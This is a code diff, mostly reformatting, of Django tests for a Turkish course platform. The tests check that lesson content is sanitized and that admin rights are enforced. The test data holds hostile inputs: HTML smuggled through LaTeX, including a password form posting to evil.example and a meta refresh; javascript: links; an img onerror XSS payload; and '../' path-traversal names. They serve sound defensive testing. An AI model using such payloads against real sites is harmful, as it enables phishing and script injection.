@@ -38,7 +38,8 @@ class _Page(HTMLParser):
 
 def write_lesson(course_dir: Path, body: str) -> None:
     (course_dir / "02-second" / "lesson.md").write_text(
-        f'+++\nslug = "second"\ntitle = "İkinci ders"\norder = 2\n+++\n\n{body}\n', encoding="utf-8")
+        f'+++\nslug = "second"\ntitle = "İkinci ders"\norder = 2\n+++\n\n{body}\n', encoding="utf-8"
+    )
 
 
 def lesson_page(client, user, course_slug: str, lesson_slug: str) -> _Page:
@@ -51,11 +52,15 @@ def lesson_page(client, user, course_slug: str, lesson_slug: str) -> _Page:
 
 # --- 1. Lesson text carries no markup of its own ----------------------------------------------
 
+
 @pytest.mark.django_db
 def test_html_written_inside_math_text_is_shown_as_text_and_never_obeyed(client, alice, mini_course_dir):
     # "/" separates attributes as a space would (latex2mathml turns spaces into &#x000A0;).
-    write_lesson(mini_course_dir, 'Yönlendirme: $\\text{<meta/http-equiv="refresh"/content="0">}$\n\n'
-                                  '$$\\text{<form/action="https://evil.example/"><input/name="parola"></form>}$$')
+    write_lesson(
+        mini_course_dir,
+        'Yönlendirme: $\\text{<meta/http-equiv="refresh"/content="0">}$\n\n'
+        '$$\\text{<form/action="https://evil.example/"><input/name="parola"></form>}$$',
+    )
     import_course(mini_course_dir)
     page = lesson_page(client, alice, "mini", "second")
     assert not page.having("meta", **{"http-equiv": "refresh"})
@@ -72,7 +77,9 @@ def test_links_styles_and_classes_smuggled_in_through_latex_are_dropped(client, 
         'prompt = "$\\\\href{javascript:alert(1)}{Tıklayın}$"\n'
         'explanation = "$\\\\style{position:fixed;inset:0}{x}$"\n'
         '[[questions.options]]\ntext = "$\\\\class{visual-controls}{Query}$ ve Key"\ncorrect = true\n'
-        '[[questions.options]]\ntext = "Query ve Value"\n', encoding="utf-8")
+        '[[questions.options]]\ntext = "Query ve Value"\n',
+        encoding="utf-8",
+    )
     import_course(mini_course_dir)
     page = lesson_page(client, alice, "mini", "first")
     attributes = [a for _tag, a in page.elements]
@@ -93,8 +100,9 @@ def test_figures_keep_their_controls_while_the_text_around_them_is_cleaned(clien
     course_dir = tmp_path / "visuals"
     shutil.copytree(FIXTURES / "visuals", course_dir)
     lesson = course_dir / "01-figures" / "lesson.md"
-    lesson.write_text(lesson.read_text(encoding="utf-8") + "\n$\\href{javascript:alert(1)}{Bağlantı}$\n",
-                      encoding="utf-8")
+    lesson.write_text(
+        lesson.read_text(encoding="utf-8") + "\n$\\href{javascript:alert(1)}{Bağlantı}$\n", encoding="utf-8"
+    )
     import_course(course_dir)
     page = lesson_page(client, alice, "visuals", "figures")
     figures = {a.get("data-visual") for a in page.having("figure")}
@@ -108,14 +116,19 @@ def test_figures_keep_their_controls_while_the_text_around_them_is_cleaned(clien
 
 # --- 3. Names used in paths are slugs ---------------------------------------------------------
 
+
 def add_exercise(course_dir: Path, folder: str, misconception: str) -> Path:
     exercise = course_dir / "01-first" / folder
     (exercise / "variants").mkdir(parents=True)
     (exercise / "exercise.toml").write_text(
         'slug = "scores"\ntitle = "Skorlar"\nkind = "function"\nfunction = "scores"\n\n'
-        f'[[misconceptions]]\n{misconception}\nhint = "Boyutlara bakın."\n', encoding="utf-8")
+        f'[[misconceptions]]\n{misconception}\nhint = "Boyutlara bakın."\n',
+        encoding="utf-8",
+    )
     (exercise / "solution.py").write_text("def scores(Q, K):\n    return Q @ K.T\n", encoding="utf-8")
-    (exercise / "variants" / "no-transpose.py").write_text("def scores(Q, K):\n    return Q @ K\n", encoding="utf-8")
+    (exercise / "variants" / "no-transpose.py").write_text(
+        "def scores(Q, K):\n    return Q @ K\n", encoding="utf-8"
+    )
     return exercise
 
 
@@ -124,35 +137,60 @@ def test_a_misconception_tag_that_climbs_out_of_its_folder_is_refused_at_its_lin
     # The tag names the folder of the variant's grading data: "../x" would write elsewhere.
     add_exercise(mini_course_dir, "scores", 'tag = "../../escape"\nfile = "variants/no-transpose.py"')
     problems = [str(p) for p in load_course(mini_course_dir).problems]
-    assert problems == ["mini/01-first/scores/exercise.toml:7: misconception tag '../../escape' "
-                        "must be lowercase letters and digits joined by hyphens"]
+    assert problems == [
+        "mini/01-first/scores/exercise.toml:7: misconception tag '../../escape' "
+        "must be lowercase letters and digits joined by hyphens"
+    ]
     with pytest.raises(ImportRefused):
         import_course(mini_course_dir)
     assert not Course.objects.exists()
 
 
 def test_folder_and_variant_file_names_must_be_slugs(mini_course_dir):
-    add_exercise(mini_course_dir, "Skor Alıştırması", 'tag = "no-transpose"\nfile = "variants/../variants/no-transpose.py"')
+    add_exercise(
+        mini_course_dir,
+        "Skor Alıştırması",
+        'tag = "no-transpose"\nfile = "variants/../variants/no-transpose.py"',
+    )
     (mini_course_dir / "01-first" / "questions").mkdir()
-    shutil.copy(mini_course_dir / "01-first" / "questions.toml", mini_course_dir / "01-first" / "questions" / "Soru 1.toml")
+    shutil.copy(
+        mini_course_dir / "01-first" / "questions.toml",
+        mini_course_dir / "01-first" / "questions" / "Soru 1.toml",
+    )
     (mini_course_dir / "01-first" / "questions.toml").unlink()
     shutil.move(mini_course_dir / "02-second", mini_course_dir / "02 ikinci")
     problems = [str(p) for p in load_course(mini_course_dir).problems]
-    assert any(p.startswith("mini/02 ikinci/lesson.md:1: lesson folder name '02 ikinci' must be lowercase")
-               for p in problems)
-    assert any(p.startswith("mini/01-first/Skor Alıştırması/exercise.toml:1: exercise folder name") for p in problems)
-    assert any(p.startswith("mini/01-first/questions/Soru 1.toml:1: question file name 'Soru 1'") for p in problems)
-    assert any(p.startswith("mini/01-first/Skor Alıştırması/exercise.toml:8: variant file "
-                            "'variants/../variants/no-transpose.py' must be a .py file") for p in problems)
+    assert any(
+        p.startswith("mini/02 ikinci/lesson.md:1: lesson folder name '02 ikinci' must be lowercase")
+        for p in problems
+    )
+    assert any(
+        p.startswith("mini/01-first/Skor Alıştırması/exercise.toml:1: exercise folder name") for p in problems
+    )
+    assert any(
+        p.startswith("mini/01-first/questions/Soru 1.toml:1: question file name 'Soru 1'") for p in problems
+    )
+    assert any(
+        p.startswith(
+            "mini/01-first/Skor Alıştırması/exercise.toml:8: variant file "
+            "'variants/../variants/no-transpose.py' must be a .py file"
+        )
+        for p in problems
+    )
 
 
 def test_the_built_in_course_and_the_fixtures_use_slug_names():
-    for course in (Path(__file__).resolve().parent.parent / "courses" / "content" / "attention",
-                   FIXTURES / "lab", FIXTURES / "quiz", FIXTURES / "visuals"):
+    for course in (
+        Path(__file__).resolve().parent.parent / "courses" / "content" / "attention",
+        FIXTURES / "lab",
+        FIXTURES / "quiz",
+        FIXTURES / "visuals",
+    ):
         assert load_course(course).problems == [], course
 
 
 # --- 2. The admin edits no raw HTML, code or instructor rights for instructors ---------------
+
 
 @pytest.fixture
 def teacher(make_user):
@@ -180,12 +218,16 @@ def test_an_instructor_cannot_change_solutions_starters_or_hints_in_the_admin(cl
     form = client.get(url).text
     for field in ("solution_code", "starter_code", "misconceptions"):
         assert f'name="{field}"' not in form
-    response = client.post(url, {
-        "title": "Attention", "order": "5",
-        "solution_code": "def attention(Q, K, V, mask=None):\n    return 0\n",
-        "starter_code": "import os\n",
-        "misconceptions": '[{"tag": "no-scaling", "hint_html": "<img src=x onerror=alert(1)>"}]',
-    })
+    response = client.post(
+        url,
+        {
+            "title": "Attention",
+            "order": "5",
+            "solution_code": "def attention(Q, K, V, mask=None):\n    return 0\n",
+            "starter_code": "import os\n",
+            "misconceptions": '[{"tag": "no-scaling", "hint_html": "<img src=x onerror=alert(1)>"}]',
+        },
+    )
     assert response.status_code == 302  # saved: the title and order are still editable
     exercise.refresh_from_db()
     assert (exercise.solution_code, exercise.starter_code, exercise.misconceptions) == before
@@ -199,12 +241,21 @@ def test_only_a_superuser_can_make_someone_an_instructor(client, make_user, teac
     client.force_login(teacher)
     url = reverse("admin:courses_course_change", args=[mini_course.pk])
     assert 'name="instructors"' not in client.get(url).text
-    response = client.post(url, {
-        "title": "Mini kurs", "summary": "", "enrollment": "open", "enrollment_code": "", "score_policy": "best",
-        "instructors": [teacher.pk, friend.pk],
-        "lessons-TOTAL_FORMS": "0", "lessons-INITIAL_FORMS": "0",
-        "lessons-MIN_NUM_FORMS": "0", "lessons-MAX_NUM_FORMS": "1000",
-    })
+    response = client.post(
+        url,
+        {
+            "title": "Mini kurs",
+            "summary": "",
+            "enrollment": "open",
+            "enrollment_code": "",
+            "score_policy": "best",
+            "instructors": [teacher.pk, friend.pk],
+            "lessons-TOTAL_FORMS": "0",
+            "lessons-INITIAL_FORMS": "0",
+            "lessons-MIN_NUM_FORMS": "0",
+            "lessons-MAX_NUM_FORMS": "1000",
+        },
+    )
     assert response.status_code == 302
     assert list(mini_course.instructors.all()) == [teacher]
     assert not friend.taught_courses.exists()
@@ -222,29 +273,47 @@ def test_saving_a_lesson_in_the_admin_keeps_its_figures_and_body(client, alice, 
     client.force_login(make_user("yonetici", is_staff=True, is_superuser=True))
     url = reverse("admin:courses_lesson_change", args=[lesson.pk])
     assert 'name="body_source"' not in client.get(url).text  # the body is changed in lesson.md
-    response = client.post(url, {
-        "title": "Dört görsel (yeni başlık)", "order": "1", "summary": "",
-        "body_source": "$\\text{<form/action=\"https://evil.example/\">}$",
-        **{f"{prefix}-{key}": value for prefix in ("questions", "exercises")
-           for key, value in (("TOTAL_FORMS", "0"), ("INITIAL_FORMS", "0"), ("MIN_NUM_FORMS", "0"),
-                              ("MAX_NUM_FORMS", "1000"))},
-    })
+    response = client.post(
+        url,
+        {
+            "title": "Dört görsel (yeni başlık)",
+            "order": "1",
+            "summary": "",
+            "body_source": '$\\text{<form/action="https://evil.example/">}$',
+            **{
+                f"{prefix}-{key}": value
+                for prefix in ("questions", "exercises")
+                for key, value in (
+                    ("TOTAL_FORMS", "0"),
+                    ("INITIAL_FORMS", "0"),
+                    ("MIN_NUM_FORMS", "0"),
+                    ("MAX_NUM_FORMS", "1000"),
+                )
+            },
+        },
+    )
     assert response.status_code == 302
     page = lesson_page(client, alice, "visuals", "figures")
     assert "Dört görsel (yeni başlık)" in page.text
-    assert {"heatmap", "rotate", "blend", "playground"} <= {a.get("data-visual") for a in page.having("figure")}
+    assert {"heatmap", "rotate", "blend", "playground"} <= {
+        a.get("data-visual") for a in page.having("figure")
+    }
     assert not page.having("form", action="https://evil.example/")
 
 
 # --- 4. The admin's re-import runs in a grading worker -----------------------------------------
 
+
 @pytest.mark.django_db(transaction=True)
-def test_reimport_from_the_admin_is_queued_and_its_outcome_shows_on_the_course_page(client, make_user, mini_course_dir,
-                                                                                   run_queue):
+def test_reimport_from_the_admin_is_queued_and_its_outcome_shows_on_the_course_page(
+    client, make_user, mini_course_dir, run_queue
+):
     import_course(mini_course_dir)
     course = Course.objects.get(slug="mini")
     lesson = mini_course_dir / "02-second" / "lesson.md"
-    lesson.write_text(lesson.read_text(encoding="utf-8").replace("İkinci ders", "İkinci ders, yeniden"), encoding="utf-8")
+    lesson.write_text(
+        lesson.read_text(encoding="utf-8").replace("İkinci ders", "İkinci ders, yeniden"), encoding="utf-8"
+    )
     client.force_login(make_user("yonetici", is_staff=True, is_superuser=True))
     changelist = reverse("admin:courses_course_changelist")
     response = client.post(changelist, {"action": "reimport", "_selected_action": [course.pk]}, follow=True)
@@ -263,4 +332,6 @@ def test_reimport_from_the_admin_is_queued_and_its_outcome_shows_on_the_course_p
     run_queue()
     page = client.get(change_page).text
     assert "İçe aktarılmadı" in page and "mini/02-second/lesson.md:9: unknown LaTeX command \\farc" in page
-    assert course.lessons.get(slug="second").title == "İkinci ders, yeniden"  # a refused import changes nothing
+    assert (
+        course.lessons.get(slug="second").title == "İkinci ders, yeniden"
+    )  # a refused import changes nothing
